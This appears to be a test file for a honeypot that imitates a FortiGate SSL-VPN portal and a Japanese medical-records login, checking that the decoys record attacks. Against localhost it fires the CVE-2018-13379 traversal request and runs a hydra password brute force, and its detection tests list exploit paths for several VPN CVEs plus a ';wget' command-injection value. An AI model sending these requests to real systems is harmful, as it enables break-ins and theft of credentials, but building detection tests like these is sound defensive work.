/** Web personas over HTTPS with curl, hydra and nmap. */
import assert from 'node:assert/strict';
import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { describe, it } from 'node:test';
import tls from 'node:tls';
import { promisify } from 'node:util';
import { startPersona } from '../core/test-helpers.ts';
import { emrWebPersona, SIGNATURES, sslvpnFortiPersona, sslvpnPersona } from './https.ts';

const run = promisify(execFile);
const curl = async (args: string[]) => (await run('curl', ['-sk', '--max-time', '10', ...args])).stdout;

describe('web personas', () => {
  it('FortiGate-style portal: login page, logins recorded, CVE-2018-13379 recorded as an exploit', async (t) => {
    const p = await startPersona('sslvpn_forti', sslvpnFortiPersona);
    t.after(() => p.close());
    const base = `https://127.0.0.1:${p.port}`;
    assert.match(await curl([`${base}/remote/login?lang=ja`]), /SSL-VPN ポータル/);
    assert.match(await curl(['-d', 'username=vpnuser&credential=Summer2026', `${base}/remote/logincheck`]), /^ret=0/);
    assert.match(await curl(['-d', 'username=admin&credential=admin', `${base}/remote/logincheck`]), /^ret=1/);
    const logins = p.interactions.filter((i) => i.kind === 'login');
    assert.deepEqual(
      logins.map((i) => [i.username, i.password, i.success]),
      [
        ['vpnuser', 'Summer2026', false],
        ['admin', 'admin', true],
      ],
    );
    await curl(['--path-as-is', `${base}/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession`]);
    const exploit = await p.waitFor((i) => i.kind === 'exploit');
    assert.equal(exploit.info?.cve, 'CVE-2018-13379');
    const cert = await new Promise<tls.PeerCertificate>((resolve) => {
      const s = tls.connect({ host: '127.0.0.1', port: p.port, rejectUnauthorized: false }, () => {
        resolve(s.getPeerCertificate());
        s.destroy();
      });
    });
    assert.match(String(cert.subject.CN), /^FG\w+TK\d+/);
    assert.equal(cert.subject.O, 'Fortinet');
  });

  it('EMR login in Japanese; hydra https-post-form: every attempt recorded, the accepted pair found', async (t) => {
    const p = await startPersona('emr_web', emrWebPersona);
    t.after(() => p.close());
    assert.match(await curl([`https://127.0.0.1:${p.port}/`]), /ログイン/);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'mamori-hydra-'));
    t.after(() => fs.rmSync(dir, { recursive: true, force: true }));
    fs.writeFileSync(path.join(dir, 'u'), 'doctor01\nadmin\n');
    const words = Array.from({ length: 19 }, (_, k) => `Kango${k}`).concat('admin');
    fs.writeFileSync(path.join(dir, 'p'), `${words.join('\n')}\n`);
    const started = Date.now();
    const out = await run(
      'hydra',
      [
        '-L',
        path.join(dir, 'u'),
        '-P',
        path.join(dir, 'p'),
        '-t',
        '4',
        '-I',
        '-s',
        String(p.port),
        '127.0.0.1',
        'https-post-form',
        '/login:userid=^USER^&password=^PASS^:F=ログインできません',
      ],
      { timeout: 120_000 },
    );
    const seconds = (Date.now() - started) / 1000;
    assert.match(out.stdout, /login: admin\s+password: admin/);
    const attempts = Number(/(\d+) login tries/.exec(out.stdout)?.[1] ?? 40);
    const recorded = p.interactions.filter((i) => i.kind === 'login').length;
    t.diagnostic(
      `hydra https-post-form: ${recorded} attempts recorded in ${seconds.toFixed(1)} s (${(recorded / seconds).toFixed(0)}/s)`,
    );
    assert.ok(recorded >= 40 - 1 && recorded >= attempts - 1, `recorded ${recorded} of ${attempts}`);
    const pairs = new Set(p.interactions.filter((i) => i.kind === 'login').map((i) => `${i.username}/${i.password}`));
    for (const w of words) assert.ok(pairs.has(`doctor01/${w}`), `doctor01/${w} recorded`);
  });

  it('nmap -sV sees an SSL/HTTP service', async (t) => {
    const p = await startPersona('sslvpn', sslvpnPersona);
    t.after(() => p.close());
    const out = await run('nmap', ['-sV', '-Pn', '--version-light', '-p', String(p.port), '127.0.0.1'], {
      timeout: 120_000,
    });
    const line = out.stdout.split('\n').find((l) => l.startsWith(`${p.port}/tcp`)) ?? '';
    t.diagnostic(`nmap: ${line}`);
    assert.match(line, /open\s+(ssl\/http|https|ssl)/);
  });

  it('classifies the known exploit paths', () => {
    const find = (url: string, extra: Partial<{ body: string; headers: Record<string, string> }> = {}) =>
      SIGNATURES.find((s) => s.test({ method: 'GET', url, body: extra.body ?? '', headers: extra.headers ?? {} }));
    assert.equal(
      find('/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/')?.cve,
      'CVE-2019-11510',
    );
    assert.equal(find('/vpn/../vpns/cfg/smb.conf')?.cve, 'CVE-2019-19781');
    assert.equal(find('/api/v1/totp/user-backup-code/../../system/system-information')?.cve, 'CVE-2023-46805');
    assert.equal(find('/remote/error', { body: 'A'.repeat(9000) })?.cve, 'CVE-2023-27997');
    assert.equal(find('/', { headers: { cookie: 'SESSID=/../../../var/appweb/x' } })?.cve, 'CVE-2024-3400');
    assert.equal(find('/index.php?x=%2e%2e%2fetc%2fpasswd')?.technique, 'path traversal');
    assert.equal(find('/cgi?cmd=;wget http://x/y')?.technique, 'command injection');
    assert.equal(find('/.env')?.exploit, false);
    assert.equal(find('/remote/login?lang=en'), undefined);
  });

  it('garbage TLS and garbage HTTP close the connection, are recorded, and curl still works', async (t) => {
    const p = await startPersona('emr_web', emrWebPersona);
    t.after(() => p.close());
    for (let k = 0; k < 100; k++) {
      await new Promise<void>((resolve) => {
        const s = net.connect({ host: '127.0.0.1', port: p.port }, () => s.write(randomBytes(1 + ((k * 131) % 2000))));
        s.on('error', () => {});
        s.on('close', () => resolve());
        s.resume();
        setTimeout(() => s.destroy(), 300);
      });
    }
    for (let k = 0; k < 30; k++) {
      await new Promise<void>((resolve) => {
        const s = tls.connect({ host: '127.0.0.1', port: p.port, rejectUnauthorized: false }, () =>
          s.write(k % 2 ? `GET /${'a'.repeat(20_000)} HTTP/1.1\r\nHost: x\r\n\r\n` : randomBytes(200)),
        );
        s.on('error', () => {});
        s.on('close', () => resolve());
        s.resume();
        setTimeout(() => s.destroy(), 500);
      });
    }
    assert.ok(p.interactions.some((i) => i.kind === 'malformed' && /TLS/.test(i.summary ?? '')));
    assert.ok(p.interactions.some((i) => i.kind === 'malformed' && /HTTP/.test(i.summary ?? '')));
    assert.match(await curl([`https://127.0.0.1:${p.port}/`]), /ログイン/);
  });

  it('two sensors have different certificates and headers', async (t) => {
    const a = await startPersona('emr_web', emrWebPersona, { seed: 'a'.repeat(32) });
    const b = await startPersona('emr_web', emrWebPersona, { seed: 'b'.repeat(32) });
    t.after(async () => {
      await a.close();
      await b.close();
    });
    const fp = (port: number) =>
      new Promise<string>((resolve) => {
        const s = tls.connect({ host: '127.0.0.1', port, rejectUnauthorized: false }, () => {
          resolve(s.getPeerCertificate().fingerprint256);
          s.destroy();
        });
      });
    assert.notEqual(await fp(a.port), await fp(b.port));
  });
});
